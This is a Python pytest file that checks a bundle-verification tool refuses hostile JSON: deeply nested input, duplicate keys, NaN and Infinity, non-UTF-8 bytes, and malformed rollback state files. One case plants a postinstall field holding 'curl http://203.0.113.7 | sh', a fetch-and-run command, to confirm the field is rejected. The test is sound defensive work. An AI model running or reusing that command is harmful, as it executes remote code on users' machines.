"""Bounded JSON on hostile input: deep nesting, duplicate keys, odd constants and odd encodings are one clear error.

Every JSON document a bundle carries (index.json, manifests, the descriptor, signature bundles and their statements)
and the rollback state file are parsed through ``gapseal.jsonlimits``: a size cap, a depth cap, strict syntax. The
documents covered by the signature are re-signed with the trusted key, so only the parser limits stand in the way.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gapseal.bundler import layout as oci
from gapseal.canonical import canonical_json
from tests.adversarial.conftest import Gapseal, refused
from tests.adversarial.forge import Layout, read_statement, resign, set_signatures, sign_payload
from tests.bundles import KeyPair

DEEP = b"[" * 100_000 + b"]" * 100_000
"""Far past CPython's recursion limit: json.loads alone would raise RecursionError."""


def _nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = {"k": value}
    return value


# --- index.json and the signature referrer: not signed, read first ------------------------------------------------


def _index(data: bytes) -> Callable[[Layout, KeyPair], None]:
    def edit(layout: Layout, keys: KeyPair) -> None:
        layout.write_index(data)

    return edit


def _index_text(edit_text: Callable[[bytes], bytes]) -> Callable[[Layout, KeyPair], None]:
    def edit(layout: Layout, keys: KeyPair) -> None:
        layout.write_index(edit_text((layout.root / "index.json").read_bytes()))

    return edit


def _deep_signature_manifest(layout: Layout, keys: KeyPair) -> None:
    data = b'{"schemaVersion":2,"annotations":' + b"[" * 5000 + b"]" * 5000 + b"}"
    index = layout.index()
    sig = next(m for m in index["manifests"] if m.get("artifactType") == oci.ARTIFACT_SIGSTORE)
    sig.update(digest=layout.add_blob(data), size=len(data))
    layout.write_index(index)


def _deep_sigstore_bundle(layout: Layout, keys: KeyPair) -> None:
    set_signatures(layout, [b'{"mediaType":' + DEEP + b"}"])


def _deep_statement(layout: Layout, keys: KeyPair) -> None:
    genuine = read_statement(layout.blob(layout.signature_blob_digests()[0]))
    genuine["predicate"]["extra"] = _nested(200)
    set_signatures(layout, [sign_payload(json.dumps(genuine).encode(), keys.private)])


# --- documents covered by the signature: re-signed with the trusted key -------------------------------------------


def _descriptor(data: Callable[[bytes], bytes]) -> Callable[[Layout, KeyPair], None]:
    def edit(layout: Layout, keys: KeyPair) -> None:
        resign(layout.root, keys.private, data(layout.descriptor_bytes()))

    return edit


def _descriptor_doc(change: Callable[[dict[str, Any]], None]) -> Callable[[Layout, KeyPair], None]:
    def edit(layout: Layout, keys: KeyPair) -> None:
        doc = layout.descriptor()
        change(doc)
        resign(layout.root, keys.private, canonical_json(doc))

    return edit


def _deep_manifest(layout: Layout, keys: KeyPair) -> None:
    resign(layout.root, keys.private, manifest_edit=lambda m: {**m, "annotations": _nested(100)})


CASES: dict[str, tuple[Callable[[Layout, KeyPair], None], tuple[str, ...]]] = {
    "index-nested-100000-deep": (_index(DEEP), ("index.json is nested too deeply",)),
    "index-duplicate-key": (
        _index_text(lambda t: t.replace(b'{"manifests"', b'{"mediaType":"x","manifests"', 1)),
        ("index.json is not valid JSON", "duplicate key 'mediaType'"),
    ),
    "index-nan": (_index_text(lambda t: t.replace(b'"schemaVersion":2', b'"schemaVersion":NaN')), ("NaN",)),
    "index-not-utf8": (_index_text(lambda t: t.replace(b"gapseal-bundle", b"gapseal-\xff")), ("is not UTF-8",)),
    "index-truncated": (_index_text(lambda t: t[:-5]), ("index.json is not valid JSON",)),
    "index-is-a-list": (_index(b"[]"), ("index.json is malformed",)),
    "index-empty": (_index(b""), ("index.json is not valid JSON",)),
    "signature-manifest-nested-deep": (_deep_signature_manifest, ("signature manifest #1", "nested too deeply")),
    "sigstore-bundle-nested-deep": (_deep_sigstore_bundle, ("well-formed Sigstore bundle", "nested too deeply")),
    "signed-statement-nested-deep": (_deep_statement, ("signed payload is nested too deeply",)),
    "descriptor-nested-100000-deep": (_descriptor(lambda _: DEEP), ("the bundle descriptor is nested too deeply",)),
    "descriptor-format-details-65-deep": (
        _descriptor_doc(lambda d: d["models"][0].update(format_details=_nested(65))),
        ("the bundle descriptor is nested too deeply (more than 64 levels)",),
    ),
    "descriptor-duplicate-key": (
        _descriptor(lambda t: t.replace(b'"name":"clinic"', b'"name":"clinic","name":"evil"')),
        ("the bundle descriptor is not valid JSON", "duplicate key 'name'"),
    ),
    "descriptor-infinity": (
        _descriptor(lambda t: t.replace(b'"size":11', b'"size":Infinity', 1)),
        ("non-standard JSON constant Infinity",),
    ),
    "descriptor-not-utf8": (_descriptor(lambda t: t.replace(b"clinic", b"clin\xffc")), ("descriptor is not UTF-8",)),
    "descriptor-is-a-list": (_descriptor(lambda _: b"[]"), ("the bundle descriptor is malformed",)),
    "descriptor-unknown-field": (
        _descriptor_doc(lambda d: d.update(postinstall="curl http://203.0.113.7 | sh")),
        ("the bundle descriptor is malformed", "postinstall"),
    ),
    "descriptor-size-negative": (
        _descriptor_doc(lambda d: d["files"][0]["files"][0].update(size=-1)),
        ("the bundle descriptor is malformed", "size"),
    ),
    "bundle-manifest-nested-deep": (_deep_manifest, ("the bundle manifest is nested too deeply",)),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_json_is_one_clear_error(case: str, bundle: Path, keys: KeyPair, gapseal: Gapseal) -> None:
    edit, fragments = CASES[case]
    edit(Layout(bundle), keys)
    refused(gapseal("bundle", "verify", bundle, "--key", keys.public_path), "bundle does not verify", *fragments)


@pytest.mark.parametrize("case", ["index-nested-100000-deep", "descriptor-nested-100000-deep", "index-duplicate-key"])
def test_inspect_without_a_key_is_bounded_too(case: str, bundle: Path, keys: KeyPair, gapseal: Gapseal) -> None:
    edit, fragments = CASES[case]
    edit(Layout(bundle), keys)
    refused(gapseal("bundle", "inspect", bundle), *fragments)


# --- the rollback state file: local, but damaged or planted files must fail closed with one message ---------------

STATE: dict[str, tuple[bytes, str]] = {
    "state-nested-deep": (DEEP, "is nested too deeply"),
    "state-is-a-list": (b"[]", "it is a JSON list, not an object"),
    "state-is-a-string": (b'"1.0.0"', "it is a JSON str, not an object"),
    "state-version-not-pep440": (
        b'{"clinic":{"version":"banana","manifest_digest":"sha256:' + b"0" * 64 + b'"}}',
        "'banana' is not a version",
    ),
    "state-version-a-number": (
        b'{"clinic":{"version":2,"manifest_digest":"sha256:' + b"0" * 64 + b'"}}',
        "2 is not a string",
    ),
    "state-entry-missing-digest": (b'{"clinic":{"version":"1.0.0"}}', "not an object with exactly 'version'"),
    "state-entry-extra-field": (
        b'{"clinic":{"version":"1.0.0","manifest_digest":"sha256:' + b"0" * 64 + b'","x":1}}',
        "not an object with exactly 'version'",
    ),
    "state-entry-bad-digest": (
        b'{"clinic":{"version":"1.0.0","manifest_digest":"md5:00"}}',
        "manifest_digest is not a sha256 digest",
    ),
    "state-duplicate-key": (b'{"clinic":{},"clinic":{}}', "duplicate key 'clinic'"),
    "state-not-utf8": (b'{"\xff":1}', "is not UTF-8"),
    "state-empty": (b"", "is not valid JSON"),
}


@pytest.mark.parametrize("case", sorted(STATE))
def test_a_malformed_state_file_fails_closed(
    case: str, tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    data, fragment = STATE[case]
    state = tmp_path / "state.json"
    state.write_bytes(data)
    result = gapseal("bundle", "verify", bundle, "--key", keys.public_path, "--state-file", state)
    refused(result, "rollback state file is unreadable", fragment)
    assert state.read_bytes() == data  # never "repaired" into an empty high-water mark


def test_a_state_file_that_is_a_directory_fails_closed(
    tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    (tmp_path / "state.json").mkdir()
    result = gapseal("bundle", "verify", bundle, "--key", keys.public_path, "--state-file", tmp_path / "state.json")
    refused(result, "rollback state file is unreadable")


def test_a_state_file_under_a_regular_file_is_a_clear_error(
    tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    (tmp_path / "plain").write_text("not a directory")
    result = gapseal("bundle", "verify", bundle, "--key", keys.public_path, "--state-file", tmp_path / "plain/s.json")
    refused(result, "cannot use the rollback state file", "--state-file")


def test_a_deep_image_document_is_a_value_error_not_a_recursion_error() -> None:
    """Image manifests are signed blobs, but a trusted key can sign a hostile one: verify reads them bounded too."""
    from gapseal.bundler.images import parse_image_document

    with pytest.raises(ValueError, match="nested too deeply"):
        parse_image_document(b'{"manifests":' + DEEP + b"}", oci.MEDIA_INDEX)
    with pytest.raises(ValueError, match="duplicate key 'layers'"):
        parse_image_document(b'{"layers":[],"layers":[]}', oci.MEDIA_MANIFEST)


@pytest.mark.parametrize(
    ("data", "fragment"),
    [(DEEP, "nested too deeply"), (b'{"kind":1,"kind":2}', "duplicate key 'kind'"), (b"[]", "malformed")],
    ids=["deep", "duplicate-key", "wrong-type"],
)
def test_a_hostile_delta_marker_is_one_clear_error(
    data: bytes, fragment: str, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    from gapseal.bundler.delta_marker import DELTA_MARKER_NAME

    (bundle / DELTA_MARKER_NAME).write_bytes(data)
    refused(gapseal("bundle", "verify", bundle, "--key", keys.public_path), DELTA_MARKER_NAME, fragment)
